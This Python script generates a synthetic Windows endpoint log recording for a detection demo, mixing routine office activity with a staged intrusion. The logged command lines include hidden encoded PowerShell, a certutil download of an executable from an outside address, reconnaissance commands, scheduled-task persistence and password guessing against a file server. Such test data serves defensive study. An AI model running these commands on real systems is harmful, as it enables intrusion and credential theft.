#!/usr/bin/env python3
"""Makes demo/recording.ndjson: half an hour on three Windows hosts, mostly office work, with an intrusion in it.

A document opened from mail starts PowerShell, which has certutil fetch a program from a public address; the program
runs, looks around, makes itself at home in a scheduled task and guesses a password for the file server."""
import json
import random

random.seed(20240506)
START = 1_714_986_000_000  # 2024-05-06T09:00:00Z
HOSTS = {"WS-ANNA": ("h-7c1e", "10.20.4.31", "anna"), "WS-BEN": ("h-91b0", "10.20.4.32", "ben"),
         "FS-01": ("h-0f55", "10.20.1.5", "SYSTEM")}
events = []
pids = iter(range(2100, 30000, 4))
counter = iter(range(1, 100000))


def stamp(ms):
    import datetime
    return datetime.datetime.fromtimestamp((START + ms) / 1000, datetime.timezone.utc).strftime(
        "%Y-%m-%dT%H:%M:%S.") + f"{(START + ms) % 1000:03d}Z"


def event(ms, host, category, kind, dataset, action, **more):
    ident, address, user = HOSTS[host]
    document = {"@timestamp": stamp(ms),
                "event": {"kind": "event", "category": [category], "type": kind, "action": action,
                          "dataset": dataset, "sequence": next(counter)},
                "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
                "agent": {"type": "endpoint", "version": "8.14.0"},
                "host": {"name": host.lower(), "id": ident, "ip": [address], "os": {"type": "windows"}},
                "user": {"name": more.pop("user", user), "domain": "HARBOUR"}}
    document.update(more)
    events.append((ms, document))


class Process:
    def __init__(self, ms, host, path, arguments, parent=None):
        self.host, self.path, self.pid = host, path, next(pids)
        self.name = path.rsplit("\\", 1)[-1]
        self.id = f"{HOSTS[host][0]}-{self.pid}-{ms}"
        self.parent = parent
        self.line = " ".join([path if " " not in path else f'"{path}"', *arguments])
        self.arguments = [path, *arguments]
        event(ms, host, "process", ["start"], "endpoint.events.process", "start", process=self.document(True))

    def document(self, whole=False):
        document = {"entity_id": self.id, "pid": self.pid, "name": self.name, "executable": self.path}
        if whole:
            document |= {"command_line": self.line, "args": self.arguments, "args_count": len(self.arguments)}
            if self.parent:
                document["parent"] = {"entity_id": self.parent.id, "pid": self.parent.pid, "name": self.parent.name,
                                      "executable": self.parent.path, "command_line": self.parent.line}
        return document

    def connect(self, ms, address, port):
        event(ms, self.host, "network", ["start"], "endpoint.events.network", "connection_attempted",
              process=self.document(), source={"ip": HOSTS[self.host][1], "port": random.randrange(49152, 65535)},
              destination={"ip": address, "port": port}, network={"transport": "tcp", "direction": "egress"})

    def lookup(self, ms, name):
        event(ms, self.host, "network", ["protocol"], "endpoint.events.network", "lookup_requested",
              process=self.document(), dns={"question": {"name": name, "type": "A"}})

    def write(self, ms, path):
        name = path.rsplit("\\", 1)[-1]
        event(ms, self.host, "file", ["creation"], "endpoint.events.file", "creation", process=self.document(),
              file={"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]})

    def set_value(self, ms, path, text):
        event(ms, self.host, "registry", ["change"], "endpoint.events.registry", "modification",
              process=self.document(), registry={"path": path, "data": {"strings": [text]}})

    def end(self, ms):
        event(ms, self.host, "process", ["end"], "endpoint.events.process", "end",
              process=self.document() | {"exit_code": 0})


def logon(ms, host, user, address, outcome):
    event(ms, host, "authentication", ["start"], "system.security",
          "logged-in" if outcome == "success" else "logon-failed", user=user,
          source={"ip": address}, winlog={"event_id": "4624" if outcome == "success" else "4625",
                                          "logon": {"type": "Network"}})
    events[-1][1]["event"]["outcome"] = outcome


def office_day():
    system = "C:\\Windows\\System32\\"
    for host in HOSTS:
        services = Process(500, host, system + "services.exe", [])
        svchost = Process(900, host, system + "svchost.exe", ["-k", "netsvcs", "-p"], services)
        explorer = Process(2000, host, "C:\\Windows\\explorer.exe", [])
        for minute in range(1, 29):
            at = minute * 60_000 + random.randrange(40_000)
            if host != "FS-01":
                browser = Process(at, host, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                                  ["-contentproc", f"-childID {minute}"], explorer)
                browser.lookup(at + 300, random.choice(["intranet.harbour.example", "news.example.org", "mail.harbour.example"]))
                browser.connect(at + 420, random.choice(["10.20.1.9", "93.184.216.34", "203.0.113.80"]), 443)
                browser.end(at + random.randrange(5_000, 15_000))
            svchost.set_value(at + 1_000, "HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\SequenceNumber", str(minute))
            if minute % 4 == 0:
                update = Process(at + 2_000, host, system + "certutil.exe", ["-verifyCTL", "AuthRootWU"], svchost)
                update.connect(at + 2_400, "10.20.1.9", 80)
                update.end(at + 3_000)
            if minute % 7 == 0:
                svchost.write(at + 4_000, f"C:\\Windows\\Temp\\update{minute}.log")
        if host == "FS-01":
            for minute in range(2, 28, 3):
                logon(minute * 60_000 + 7_000, host, "ben", "10.20.4.32", "success")
            logon(7 * 60_000, host, "ben", "10.20.4.32", "failure")


def intrusion():
    host = "WS-ANNA"
    at = 11 * 60_000
    outlook = Process(at, host, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", [])
    word = Process(at + 9_000, host, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                   ["/n", "C:\\Users\\anna\\Downloads\\Invoice 4471.docm"], outlook)
    shell = Process(at + 14_000, host, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    ["-NoP", "-W", "Hidden", "-EncodedCommand", "YwBlAHIAdAB1AHQAaQBsACAALQB1AHIAbABjAGEAYwBoAGUA"], word)
    fetch = Process(at + 15_500, host, "C:\\Windows\\System32\\certutil.exe",
                    ["-urlcache", "-split", "-f", "http://198.51.100.23/a.txt", "C:\\Users\\anna\\AppData\\Local\\Temp\\tidesvc.exe"], shell)
    fetch.connect(at + 16_100, "198.51.100.23", 80)
    fetch.write(at + 17_000, "C:\\Users\\anna\\AppData\\Local\\Temp\\tidesvc.exe")
    fetch.end(at + 17_200)
    payload = Process(at + 19_000, host, "C:\\Users\\anna\\AppData\\Local\\Temp\\tidesvc.exe", [], shell)
    payload.connect(at + 19_600, "198.51.100.23", 8443)
    for step, line in enumerate((["whoami.exe", "/all"], ["net.exe", "group", "Domain Admins", "/domain"],
                                 ["ipconfig.exe", "/all"], ["nltest.exe", "/domain_trusts"])):
        tool = Process(at + 40_000 + step * 2_500, host, "C:\\Windows\\System32\\" + line[0], line[1:], payload)
        tool.end(at + 41_000 + step * 2_500)
    task = Process(at + 65_000, host, "C:\\Windows\\System32\\schtasks.exe",
                   ["/Create", "/SC", "HOURLY", "/TN", "Tide Service", "/TR", payload.path], payload)
    task.end(at + 66_000)
    for attempt in range(6):
        logon(at + 120_000 + attempt * 1_500, "FS-01", "backup", "10.20.4.31", "failure")
    logon(at + 131_000, "FS-01", "backup", "10.20.4.31", "success")


office_day()
intrusion()
with open(__file__.rsplit("/", 1)[0] + "/recording.ndjson", "w", encoding="utf-8") as out:
    for _, document in sorted(events, key=lambda pair: pair[0]):
        out.write(json.dumps(document, separators=(",", ":")) + "\n")
